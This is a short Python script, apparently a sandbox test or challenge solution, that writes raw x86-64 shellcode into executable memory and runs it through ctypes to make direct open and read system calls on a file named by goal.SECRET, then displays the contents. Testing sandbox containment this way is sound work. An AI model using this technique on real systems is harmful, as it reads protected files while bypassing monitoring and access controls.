# SPDX-License-Identifier: Apache-2.0
import goal
import ctypes
import mmap
# push rsi; open(rdi, 0); pop rsi; read(eax, rsi, 100); ret
CODE = bytes.fromhex("56 31f6 b802000000 0f05 89c7 31c0 5e ba64000000 0f05 c3")
memory = mmap.mmap(-1, 4096, prot=7)
memory.write(CODE)
buffer = ctypes.create_string_buffer(100)
at = ctypes.addressof(ctypes.c_char.from_buffer(memory))
ctypes.CFUNCTYPE(ctypes.c_int, ctypes.c_char_p, ctypes.c_char_p)(at)(
    goal.SECRET.encode(), buffer)
goal.show(buffer.value)
